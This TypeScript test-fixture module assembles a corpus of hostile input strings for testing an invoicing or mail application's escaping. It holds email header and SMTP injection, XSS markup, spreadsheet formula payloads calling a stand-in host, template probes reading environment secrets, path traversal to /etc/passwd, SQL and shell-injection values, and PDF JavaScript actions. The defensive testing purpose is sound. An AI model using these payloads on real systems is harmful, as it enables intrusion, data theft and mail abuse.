/** Hostile strings, by family. Each is text and must stay text wherever it is shown. */

const victim = 'victim@elsewhere.example'
const lines = [
  '\r\n',
  '\n',
  '\r',
  '\n\n',
  '\r\n\r\n',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u000b',
  '\u000c',
  '%0d%0a',
  '\\r\\n',
  '\u0000',
]

const times = <A, B>(
  left: readonly A[],
  right: readonly B[],
  join: (left: A, right: B) => string,
): string[] => left.flatMap(one => right.map(other => join(one, other)))

const headers = times(
  lines,
  [
    `Bcc: ${victim}`,
    `To: ${victim}`,
    `Cc: <${victim}>`,
    'Subject: Won!',
    'Content-Type: text/html',
    'X-Relance-Communication: other',
    `Reply-To: ${victim}`,
    'Content-Transfer-Encoding: base64',
  ],
  (line, header) => `Durand${line}${header}`,
)

const smtp = times(
  lines.slice(0, 6),
  ['.', 'QUIT', `RCPT TO:<${victim}>`, 'DATA', `MAIL FROM:<${victim}>`],
  (line, command) => `Durand${line}${command}${line}`,
)

const addresses = [
  `Durand <${victim}>`,
  `"Durand" <${victim}>, `,
  `Durand, ${victim}`,
  `Durand; ${victim}`,
  `${victim}`,
  `<${victim}>`,
  `Durand (${victim})`,
  `undisclosed-recipients:;`,
  `"Durand\\" <${victim}>`,
  `Durand" <${victim}> "`,
]

const encodedWords = times(
  ['UTF-8', 'iso-8859-1', 'utf-7'],
  [
    '?Q?=0D=0ABcc:_victim=40elsewhere.example?=',
    '?B?DQpCY2M6IHZpY3RpbUBlbHNld2hlcmUuZXhhbXBsZQ==?=',
    '?Q?=3Cscript=3Ealert(1)=3C/script=3E?=',
    '?Q?Durand',
    '?X?oddly?=',
    '??=',
  ],
  (charset, rest) => `=?${charset}${rest}`,
)

const boundaries = times(
  ['--', '----', '\r\n--', '\n----'],
  [
    '_NmP-0123456789abcdef-Part_1',
    'boundary42',
    '=_boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
    '_NmP-x--',
  ],
  (dashes, name) => dashes + name,
)

const tags = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://elsewhere.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://elsewhere.example"></iframe>',
  '<object data="https://elsewhere.example"></object>',
  '<embed src="https://elsewhere.example">',
  '<link rel=stylesheet href="https://elsewhere.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example">',
  '<base href="https://elsewhere.example/">',
  '<form action="https://elsewhere.example"><input name=iban>',
  '<a href="javascript:alert(1)">payer</a>',
  '<a href="https://elsewhere.example">payer</a>',
  '<style>*{display:none}</style>',
  '<style>@import "https://elsewhere.example/x.css"</style>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<!-- comment --><b>x</b>',
  '<![CDATA[<b>x</b>]]>',
  '<?xml version="1.0"?><b>x</b>',
  '<marquee onstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
]
const ways = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</td></tr></table>',
  '</title>',
  '</style>',
  '</p></body></html>',
  '-->',
  ']]>',
]
const markup = times(ways, tags, (way, tag) => way + tag)

const attributes = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" style="position:fixed;top:0;left:0;width:100%;height:100%',
  '" href="https://elsewhere.example',
  '`onmouseover=alert(1)`',
  '"/onload=alert(1) x="',
  'x\' y="',
  ';color:red;background:url(https://elsewhere.example/x)',
  'expression(alert(1))',
  '\\22 onload=alert(1)',
]

const schemes = times(
  [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    'data:text/html,',
    'vbscript:',
    'file:///',
    '//',
  ],
  ['alert(1)', '<script>alert(1)</script>', 'elsewhere.example/pay'],
  (scheme, rest) => scheme + rest,
)

const entities = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;b&amp;gt;',
  '&colon;',
  '&Tab;',
  '&NewLine;',
  '&#0;',
  '&#xD800;',
  '&nbsp',
  '%3Cscript%3E',
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
]

const directions = [
  '\u202e',
  '\u202d',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
]
const bidi = times(
  directions,
  ['elpmaxe.eriasrevda 00,002 1', 'Durand', 'F-2026-0042'],
  (mark, text) => `a${mark}${text}`,
)
const unseen = times(
  [
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u180e',
    '\u{e0041}',
    '\ufe0f',
    '\u3164',
    '\u115f',
  ],
  ['huissier', 'Durand'],
  (mark, text) => [...text].join(mark),
)

const homoglyphs = [
  'Аtelier Мartin',
  'Dυrand SΑRL',
  'ｈｕｉｓｓｉｅｒ',
  '𝓐𝓽𝓮𝓵𝓲𝓮𝓻',
  'Ⓐⓣⓔⓛⓘⓔⓡ',
  'раураl.example',
  'ﬁdélité',
  'Durand﹤b﹥x﹤/b﹥',
  '＜script＞alert(1)＜/script＞',
  'ᴰᵘʳᵃⁿᵈ',
]

const formulas = times(
  ['=', '+', '-', '@', '\t=', '\r=', '=+', '"=', "'=", ' ='],
  [
    'HYPERLINK("https://elsewhere.example","x")',
    'cmd|" /C calc"!A0',
    'IMPORTXML("https://elsewhere.example","//a")',
    '1+1',
    'WEBSERVICE("https://elsewhere.example")',
  ],
  (sign, rest) => sign + rest,
)

const placeholders = [
  '{{creditor}}',
  '{{sum}}{{sum}}',
  '{{constructor}}',
  '{{__proto__}}',
  '{{ debtor }}',
  '{{{sum}}}',
  '{{#each x}}',
  '{% raw %}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that it looks like a template is the point
  '${sum}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that it looks like a template is the point
  '${process.env.KEYRING}',
  '#{7*7}',
  '<%= 7*7 %>',
  '%s%s%s%n',
  '%00',
  "$1 $& $` $'",
  '\\1 \\g<0>',
  '[[link]]',
  '%recipient.email%',
  '*|EMAIL|*',
  '[unsubscribe]',
]

const paths = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  'file:///etc/passwd',
  'C:\\con',
  '....//....//',
  '%2e%2e%2f',
  '\\\\elsewhere.example\\share',
]

const queries = [
  "'; drop table invoices; --",
  "' or 1=1 --",
  '1); select pg_sleep(5); --',
  '$(touch x)',
  '`touch x`',
  '| cat /etc/passwd',
  '&& reboot',
]

const textMessages = [
  'Durand\u000cx',
  'Durand\u001bx',
  '^{}\\[~]|€'.repeat(5),
  'STOP',
  'ç'.repeat(70),
  '😀'.repeat(40),
  'https://elsewhere.example/d/aaaaaaaaaaaaaaaaaaaa',
  'Durand https://elsewhere.example ',
  '\u0394\u03a6\u0393',
  'ОПЛАТИТЕ СРОЧНО',
]

const pdf = [
  'Durand) Tj ET',
  '(Durand',
  '\\) Tj',
  'BT /F1 12 Tf (x) Tj ET',
  'endstream endobj',
  'stream\nx\nendstream',
  '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>',
  '/OpenAction << /S /URI /URI (https://elsewhere.example) >>',
  '%%EOF',
  'xref\n0 1\ntrailer',
  '<feff0041>',
  '\\000\\001',
  '/P <</MCID 0>> BDC',
  'EMC',
  '\u00fe\u00ff',
]

const letters = [
  'a\u0301'.repeat(50),
  `Z${'\u0300\u0301\u0302\u0303'.repeat(40)}`,
  '👨‍👩‍👧‍👦'.repeat(10),
  '🏳️‍🌈',
  '\ud800',
  'x\udc00y',
  '\ufffe\uffff',
  '\ufff9a\ufffab\ufffb',
  'İıſẞß',
  '日本語の会社',
  'شركة المثال',
  'חברה לדוגמה',
  'A\u0000B',
  '\u0007\u0008\u001b[31m',
  '   ',
  '.',
  '-- ',
  'From nobody',
]

const long = ['A', '<b>', '€', '😀 ', 'mot ', '=\r\n'].map(unit =>
  unit.repeat(Math.ceil(4_000 / unit.length)),
)

export const families: Readonly<Record<string, readonly string[]>> = {
  headers,
  smtp,
  addresses,
  encodedWords,
  boundaries,
  markup,
  attributes,
  schemes,
  entities,
  bidi,
  unseen,
  homoglyphs,
  formulas,
  placeholders,
  paths,
  queries,
  textMessages,
  pdf,
  letters,
  long,
}

/** All of them, each once. */
export const corpus: readonly string[] = [...new Set(Object.values(families).flat())]
